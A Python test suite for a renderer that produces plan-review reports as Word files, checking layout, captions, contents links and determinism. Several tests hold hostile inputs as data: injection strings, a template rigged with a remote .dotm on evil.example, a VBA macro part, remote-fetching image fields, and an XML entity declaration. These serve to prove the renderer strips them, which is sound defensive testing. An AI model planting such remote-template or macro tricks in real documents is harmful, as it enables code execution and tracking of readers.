"""Reviews as Word files: what python-docx, LibreOffice and a zip reader find in them."""

import io
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import docx
import pytest
from docx.document import Document
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from docx.shared import Mm, Pt, RGBColor

from ningbo_plan.checks import check_submissions
from ningbo_plan.judging.review import review
from ningbo_plan.loading import Catalog, Submissions, read_document_bytes
from ningbo_plan.messages import Language, messages_for
from ningbo_plan.render.review_docx import render_docx
from ningbo_plan.report.document import (
    Bullets,
    Cell,
    Column,
    Figure,
    Heading,
    Line,
    Paragraph,
    ProgressChart,
    Run,
    Table,
)
from ningbo_plan.report.provenance import Provenance
from ningbo_plan.report.review import ReviewReport, make_review
from ningbo_plan.series import series_of
from ningbo_plan.source.files import FileError

DEMONSTRATION = "examples/demonstration-2023.yaml"
HOSTILE = '<w:p> & "]]>" \x1b[31m \x00 \u202eabc \ufffe\ud800 {=1+1}'
SHOWN = '<w:p> & "]]>" <U+001B>[31m <U+0000> <U+202E>abc <U+FFFE><U+D800> {=1+1}'
Make = Callable[[Language], ReviewReport]


@pytest.fixture(scope="module")
def report(catalog: Catalog) -> Make:
    """The demonstration's review in a language."""
    submissions = Submissions()
    read_document_bytes(DEMONSTRATION, Path(DEMONSTRATION).read_bytes(), submissions)
    (series,) = series_of(catalog, check_submissions(catalog, submissions).sound)
    made_of = Provenance("ningbo-plan", "1", [], [], "plan review")
    return lambda language: make_review(review(series, 2023), made_of, messages_for(language))


@pytest.fixture(scope="module")
def files(report: Make) -> dict[Language, bytes]:
    return {language: render_docx(report(language)) for language in Language}


def opened(data: bytes) -> Document:
    return docx.Document(io.BytesIO(data))


def with_blocks(report: ReviewReport, *blocks: Any) -> ReviewReport:
    return report._replace(document=report.document._replace(blocks=list(blocks)))


def parts(data: bytes) -> dict[str, str]:
    with ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}


def texts(element: Any) -> str:
    return "".join(found.text or "" for found in element.iter(qn("w:t")))


@pytest.mark.parametrize("language", Language)
def test_headings_are_headings_and_the_contents_lead_to_them(
    files: dict[Language, bytes], report: Make, language: Language
) -> None:
    document = opened(files[language])
    headings = [block for block in report(language).document.blocks if isinstance(block, Heading)]
    gap = " " if language is Language.EN else ""
    told = [f"{heading.number}{gap}{heading.text}" for heading in headings]
    found = [p for p in document.paragraphs if p.style is not None and p.style.name.startswith("Heading")]
    assert [paragraph.text for paragraph in found] == told
    assert [paragraph.style.name for paragraph in found if paragraph.style] == [f"Heading {h.level}" for h in headings]
    body = document.element.body
    (contents,) = body.findall(qn("w:sdt"))
    (instruction,) = contents.iter(qn("w:instrText"))
    # Two levels have more entries than the first page holds.
    assert instruction.text.split() == ["TOC", "\\o", '"1-1"', "\\h", "\\z", "\\u"]
    marked = {mark.get(qn("w:name")): texts(mark.getparent()) for mark in body.iter(qn("w:bookmarkStart"))}
    entries = {link.get(qn("w:anchor")): texts(link) for link in contents.iter(qn("w:hyperlink"))}
    assert list(entries.values()) == [text for text, heading in zip(told, headings, strict=True) if heading.level < 2]
    assert all(marked[anchor] == text for anchor, text in entries.items())
    # Nothing in the contents is a page number that could be wrong.
    assert {kind.get(qn("w:fldCharType")) for kind in contents.iter(qn("w:fldChar"))} == {"begin", "separate", "end"}


def test_links_inside_have_their_targets(files: dict[Language, bytes]) -> None:
    body = opened(files[Language.ZH_HANT]).element.body
    names = [mark.get(qn("w:name")) for mark in body.iter(qn("w:bookmarkStart"))]
    anchors = {link.get(qn("w:anchor")) for link in body.iter(qn("w:hyperlink"))}
    assert len(names) == len(set(names))
    assert all(re.fullmatch("[A-Za-z_][A-Za-z0-9_]{0,39}", name) for name in names)
    assert anchors <= set(names)
    assert len([anchor for anchor in anchors if anchor.startswith("_Ref")]) > 20


def test_a_page_is_that_of_official_documents(files: dict[Language, bytes]) -> None:
    document = opened(files[Language.ZH_HANS])
    upright, turned, last = document.sections
    for section in (upright, last):
        assert section.orientation == WD_ORIENT.PORTRAIT
        assert section.page_width is not None
        assert section.page_height is not None
        margins = section.left_margin, section.right_margin, section.top_margin, section.bottom_margin
        assert [round(margin.mm) for margin in margins if margin is not None] == [28, 26, 37, 35]
        assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert turned.orientation == WD_ORIENT.LANDSCAPE
    assert document.settings.odd_and_even_pages_header_footer
    assert upright.footer.paragraphs[0].text == upright.even_page_footer.paragraphs[0].text == "—  —"  # and the number
    assert ' w:instr=" PAGE "' in parts(files[Language.ZH_HANS])["word/footer1.xml"]
    assert turned.footer.is_linked_to_previous
    styles = {style.name: style for style in document.styles}
    fonts = {name: styles[name].element.rPr.rFonts.get(qn("w:eastAsia")) for name in ("Title", "Normal", "Heading 1")}
    assert fonts == {"Title": "方正小标宋简体", "Normal": "仿宋_GB2312", "Heading 1": "黑体"}
    assert styles["Normal"].font.size == Pt(16)
    assert styles["Title"].font.size == Pt(22)
    assert styles["Body Text"].element.pPr.ind.get(qn("w:firstLineChars")) == "200"


def test_the_table_of_all_rows_lies_in_the_turned_section(files: dict[Language, bytes]) -> None:
    sections, wide = 0, []
    for element in opened(files[Language.EN]).element.body:
        if element.tag == qn("w:tbl") and len(element.tblGrid.gridCol_lst) == 12:
            wide.append(sections)
        sections += element.tag == qn("w:p") and element.pPr.find(qn("w:sectPr")) is not None
    assert wide == [1]


def test_tables_have_captions_repeated_headers_and_whole_rows(files: dict[Language, bytes], report: Make) -> None:
    document = opened(files[Language.ZH_HANT])
    told = [block for block in report(Language.ZH_HANT).document.blocks if isinstance(block, Table)]
    assert len(document.tables) == len(told)
    for number, (table, block) in enumerate(zip(document.tables, told, strict=True), start=1):
        assert table.style is not None
        assert table.style.name == "Table"
        rows: list[Any] = table._tbl.tr_lst
        assert [row.trPr.find(qn("w:tblHeader")) is not None for row in rows] == [True] + [False] * len(block.lines)
        assert all(row.trPr.find(qn("w:cantSplit")) is not None for row in rows)
        assert [[texts(cell) for cell in row.tc_lst] for row in rows] == [
            [column.header for column in block.columns], *([cell.text for cell in line.cells] for line in block.lines)
        ]  # fmt: skip
        caption = table._tbl.getprevious()
        assert caption.style == "Caption"
        assert caption.pPr.keepNext is not None
        assert texts(caption) == f"表 {number}\u3000{block.caption}"
        assert caption.find(qn("w:fldSimple")).get(qn("w:instr")) == r" SEQ 表 \* ARABIC "


def test_figures_have_captions_and_say_what_they_show(files: dict[Language, bytes], report: Make) -> None:
    document = opened(files[Language.ZH_HANT])
    told = [block for block in report(Language.ZH_HANT).document.blocks if isinstance(block, Figure)]
    text_width = Mm(156)
    assert len(document.inline_shapes) == len(told)
    for number, (shape, block) in enumerate(zip(document.inline_shapes, told, strict=True), start=1):
        properties = shape._inline.docPr
        assert (properties.get("descr"), properties.get("title")) == (block.alt, block.caption)
        assert shape.width <= text_width + Mm(1)
        figure = next(a for a in shape._inline.iterancestors() if a.tag == qn("w:p"))
        assert figure.style == "Figure"
        assert texts(figure.getnext()) == f"圖 {number}\u3000{block.caption}"


def test_a_chart_too_high_for_a_page_is_shown_in_pieces(report: Make) -> None:
    (figure, *_) = [
        block
        for block in report(Language.EN).document.blocks
        if isinstance(block, Figure) and isinstance(block.chart, ProgressChart)
    ]
    assert isinstance(figure.chart, ProgressChart)
    figure = figure._replace(chart=figure.chart._replace(bars=figure.chart.bars[:1] * 40))
    document = opened(render_docx(with_blocks(report(Language.EN), Heading(1, "1.", "x", "x"), figure)))
    described = [shape._inline.docPr.get("descr") for shape in document.inline_shapes]
    assert described == [figure.alt, figure.caption, figure.caption]
    assert [shape.height < Mm(200) for shape in document.inline_shapes] == [True] * 3
    assert [p.text for p in document.paragraphs if p._p.style == "Caption"] == [f"Figure . {figure.caption}"]


def test_a_warning_stands_before_the_contents(files: dict[Language, bytes]) -> None:
    elements = list(opened(files[Language.EN]).element.body)
    styles = [element.style if element.tag == qn("w:p") else element.tag for element in elements]
    assert styles.index("Warning") < styles.index(qn("w:sdt"))
    assert styles.count("Warning") == 1


def test_the_same_bytes_without_dates_of_making(report: Make, files: dict[Language, bytes]) -> None:
    data = files[Language.ZH_HANT]
    assert render_docx(report(Language.ZH_HANT)) == data
    with ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert names[0] == "[Content_Types].xml"
        assert names[1:] == sorted(names[1:])
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    properties = opened(data).core_properties
    assert properties.title == report(Language.ZH_HANT).document.title
    assert (properties.author, properties.last_modified_by) == ("", "")
    assert properties.created == properties.modified
    assert properties.created is not None
    assert properties.created.year == 2000


@pytest.mark.parametrize("language", Language)
def test_word_opens_it_without_a_question(files: dict[Language, bytes], language: Language) -> None:
    found = parts(files[language])
    everything = "".join(found.values())
    for asking in ("updateFields", "w:dirty", "attachedTemplate", "TargetMode", "w:altChunk"):
        assert asking not in everything
    assert 'w:name="compatibilityMode"' in found["word/settings.xml"]
    script = {Language.ZH_HANT: "zh-TW"}.get(language, "zh-CN")
    assert f'<w:lang w:val="en-US" w:eastAsia="{script}"' in found["word/styles.xml"]
    ids = re.findall(r'<w:pStyle w:val="([^"]*)"', found["word/document.xml"])
    assert set(ids) <= set(re.findall(r'w:styleId="([^"]*)"', found["word/styles.xml"]))


def test_hostile_text_only_shows(report: Make) -> None:
    link = 'https://example.org/?a="<x>&b=\u202e'
    blocks = [
        Heading(1, "一、", HOSTILE, "h"),
        Paragraph((Run(HOSTILE, strong=True), Run(HOSTILE, emphasis=True, link=link), Run("x", link="#nowhere"))),
        Bullets([(Run(HOSTILE),)], is_ordered=True),
        Table(HOSTILE, [Column(HOSTILE)], [Line([Cell(HOSTILE, link="javascript:x")], anchor=HOSTILE)]),
    ]
    data = render_docx(with_blocks(report(Language.ZH_HANT), *blocks))
    document = opened(data)
    assert document.paragraphs[2].text == f"一、{SHOWN}"
    assert document.tables[0].rows[1].cells[0].text == SHOWN
    assert document.core_properties.title
    (address,) = [rel.target_ref for rel in document.part.rels.values() if rel.is_external]
    assert address == "https://example.org/?a=%22%3Cx%3E&b=%3CU+202E%3E"
    anchors = [link.get(qn("w:anchor")) for link in document.element.body.iter(qn("w:hyperlink"))]
    assert len(anchors) == 2  # of the contents and the web: what leads nowhere is text


def test_numbered_lists_start_anew(report: Make) -> None:
    listed = Bullets([(Run("one"),), (Run("two"),)], is_ordered=True)
    document = opened(render_docx(with_blocks(report(Language.EN), Heading(1, "1.", "x", "x"), listed, listed)))
    body: Any = document.element.body
    numbers = [number.numId.val for number in body.iter(qn("w:numPr"))]
    assert numbers == [numbers[0]] * 2 + [numbers[0] + 1] * 2


def test_numbers_and_short_texts_are_not_broken(report: Make) -> None:
    columns = [Column("name", 5), Column("year", 0.1, is_number=True), Column("verdict", 0.1), Column("empty")]
    shown = Table("", columns, [Line([Cell("word " * 99), Cell("2023"), Cell("提前完成"), Cell("")])])
    table = opened(render_docx(with_blocks(report(Language.EN), Heading(1, "1.", "x", "x"), shown))).tables[0]
    widths = [column.width.mm for column in table.columns if column.width is not None]
    assert abs(sum(widths) - 156) < 0.1
    assert widths[1] > 9  # four digits of 10.5 points
    assert widths[2] > 15
    assert widths[3] < 20  # no wider than its header


def test_verdicts_are_told_by_words_and_by_grounds(files: dict[Language, bytes]) -> None:
    (row,) = [row for row in opened(files[Language.ZH_HANT]).tables[0]._tbl.tr_lst if texts(row).startswith("24 ")]
    shading = row.tc_lst[-1].tcPr.find(qn("w:shd"))  # type: ignore[union-attr]
    assert shading is not None
    assert (texts(row.tc_lst[-1]), shading.get(qn("w:fill"))) == ("提前完成", "d9f0e8")


def test_components_are_indented(report: Make) -> None:
    lines = [Line([Cell("1"), Cell("whole")]), Line([Cell(""), Cell("part")], is_part=True)]
    shown = Table("", [Column("#", is_number=True), Column("name")], lines, is_main=True)
    table = opened(render_docx(with_blocks(report(Language.EN), Heading(1, "1.", "x", "x"), shown))).tables[0]
    indents = [[cell.paragraphs[0].paragraph_format.left_indent for cell in row.cells] for row in table.rows]
    assert indents == [[None, None], [None, None], [None, Pt(10.5)]]


def template(path: Path) -> bytes:
    """A Word file of somebody else's: Kai and red headings, wide margins, a header, a body that is not ours."""
    document = docx.Document()
    styles: Any = document.styles
    for name in ("Normal", "Heading 1"):
        styles[name].font.name = "Georgia"
        styles[name].element.rPr.rFonts.set(qn("w:eastAsia"), "楷体")
    styles["Heading 1"].font.color.rgb = RGBColor(0xC0, 0, 0)
    section = document.sections[0]
    section.left_margin = section.right_margin = Mm(40)
    section.header.paragraphs[0].text = "Municipal bureau"
    document.add_paragraph("A body that is dropped")
    document.core_properties.author = "Somebody"
    document.save(str(path))
    return path.read_bytes()


def test_a_template_gives_styles_page_and_header(tmp_path: Path, report: Make) -> None:
    data = render_docx(report(Language.ZH_HANS), template(tmp_path / "template.docx"))
    document = opened(data)
    styles = {style.name: style for style in document.styles}
    assert styles["Heading 1"].font.name == "Georgia"
    assert styles["Heading 1"].font.color.rgb == RGBColor(0xC0, 0, 0)
    assert {"Table", "Table Text", "toc 1", "Caption", "Warning"} <= set(styles)
    assert [round(section.left_margin.mm) for section in document.sections if section.left_margin][::2] == [40, 40]
    assert document.sections[0].header.paragraphs[0].text == "Municipal bureau"
    assert document.sections[1].header.is_linked_to_previous
    assert document.core_properties.author == ""
    assert "A body that is dropped" not in parts(data)["word/document.xml"]
    assert data == render_docx(report(Language.ZH_HANS), (tmp_path / "template.docx").read_bytes())


def rewritten(data: bytes, changes: dict[str, Callable[[str], str]], added: dict[str, bytes] | None = None) -> bytes:
    output = io.BytesIO()
    with ZipFile(io.BytesIO(data)) as source, ZipFile(output, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            target.writestr(name, changes[name](content.decode()) if name in changes else content)
        for name, content in (added or {}).items():
            target.writestr(name, content)
    return output.getvalue()


def test_what_acts_or_fetches_is_not_taken_from_a_template(tmp_path: Path, report: Make) -> None:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    evil = "http://evil.example/"

    def relate(rels: str) -> str:
        added = (
            f'<Relationship Id="rId90" Type="{office}/attachedTemplate" Target="{evil}t.dotm" TargetMode="External"/>'
            '<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/>'
        )
        return rels.replace("</Relationships>", f"{added}</Relationships>")

    def picture(header: str) -> str:
        added = (
            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
            f'xmlns:r="{office}" r:id="rId1"/></v:shape></w:pict></w:r>'
            f'<w:r><w:instrText>INCLUDEPICTURE "{evil}2"</w:instrText></w:r></w:p>'
        )
        return header.replace("</w:p>", added, 1)

    fetching = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{office}/image" Target="{evil}1" TargetMode="External"/></Relationships>'
    )
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    changes: dict[str, Callable[[str], str]] = {
        "[Content_Types].xml": lambda text: text.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", macros
        ).replace(
            "<Override", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override', 1
        ),
        "word/_rels/document.xml.rels": relate,
        "word/header1.xml": picture,
        "word/settings.xml": lambda text: text.replace(
            "<w:zoom", '<w:attachedTemplate xmlns:r="x" r:id="rId90"/><w:updateFields w:val="true"/><w:zoom', 1
        ),
    }
    added = {"word/vbaProject.bin": b"macro", "word/_rels/header1.xml.rels": fetching.encode()}
    data = render_docx(report(Language.EN), rewritten(template(tmp_path / "t.docx"), changes, added))
    found = parts(data)
    assert "evil.example" not in "".join(found.values())
    assert "updateFields" not in found["word/settings.xml"]
    assert "macroEnabled" not in found["[Content_Types].xml"]
    with ZipFile(io.BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if name.endswith(".bin")]
    assert opened(data).sections[0].header.paragraphs[0].text == "Municipal bureau"


def test_a_template_of_word_is_a_template(tmp_path: Path, report: Make) -> None:
    change = {"[Content_Types].xml": lambda text: text.replace("document.main+xml", "template.main+xml")}
    data = render_docx(report(Language.EN), rewritten(template(tmp_path / "t.docx"), change))
    assert opened(data).sections[0].header.paragraphs[0].text == "Municipal bureau"


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"no zip", "workbook", "truncated", "entities"])
def test_a_template_that_is_no_word_file_is_refused(tmp_path: Path, report: Make, data: bytes | str) -> None:
    good = template(tmp_path / "t.docx")
    if data == "workbook":
        data = rewritten(good, {"[Content_Types].xml": lambda text: text.replace("wordprocessing", "spreadsheet")})
    elif data == "truncated":
        data = good[: len(good) // 2]
    elif data == "entities":
        data = rewritten(good, {"word/styles.xml": lambda text: "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"})
    assert isinstance(data, bytes)
    with pytest.raises(FileError, match=r"^--reference-doc: it is damaged, or no Word file$"):
        render_docx(report(Language.EN), data)


def pdf_text(data: bytes, folder: Path) -> str:
    """The text of the pages that LibreOffice makes of it, with form feeds between them."""
    source = folder / "review.docx"
    source.write_bytes(data)
    profile = (folder / "profile").as_uri()
    command = [shutil.which("soffice") or "libreoffice", f"-env:UserInstallation={profile}", "--headless"]
    subprocess.run(
        [*command, "--convert-to", "pdf", "--outdir", str(folder), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    done = subprocess.run(["pdftotext", "-layout", str(folder / "review.pdf"), "-"], capture_output=True, check=True)
    return done.stdout.decode()


@pytest.mark.parametrize("language", Language)
def test_libreoffice_shows_all_of_it(
    tmp_path: Path, files: dict[Language, bytes], report: Make, language: Language
) -> None:
    text = pdf_text(files[language], tmp_path)
    shown = re.sub(r"\s", "", text)
    for block in report(language).document.blocks:
        if isinstance(block, Heading):
            assert re.sub(r"\s", "", block.number + block.text) in shown
    word = {Language.ZH_HANT: "圖", Language.ZH_HANS: "图", Language.EN: "Figure"}[language]
    assert f"{word}1" in shown
    assert "135.9" in shown
    pages = text.rstrip("\f").split("\f")
    assert 10 < len(pages) < 35
    assert all(page.strip() for page in pages)
    numbers = [re.findall(r"—\s*(\d+)\s*—", page) for page in pages]
    assert numbers == [[str(number)] for number in range(1, len(pages) + 1)]
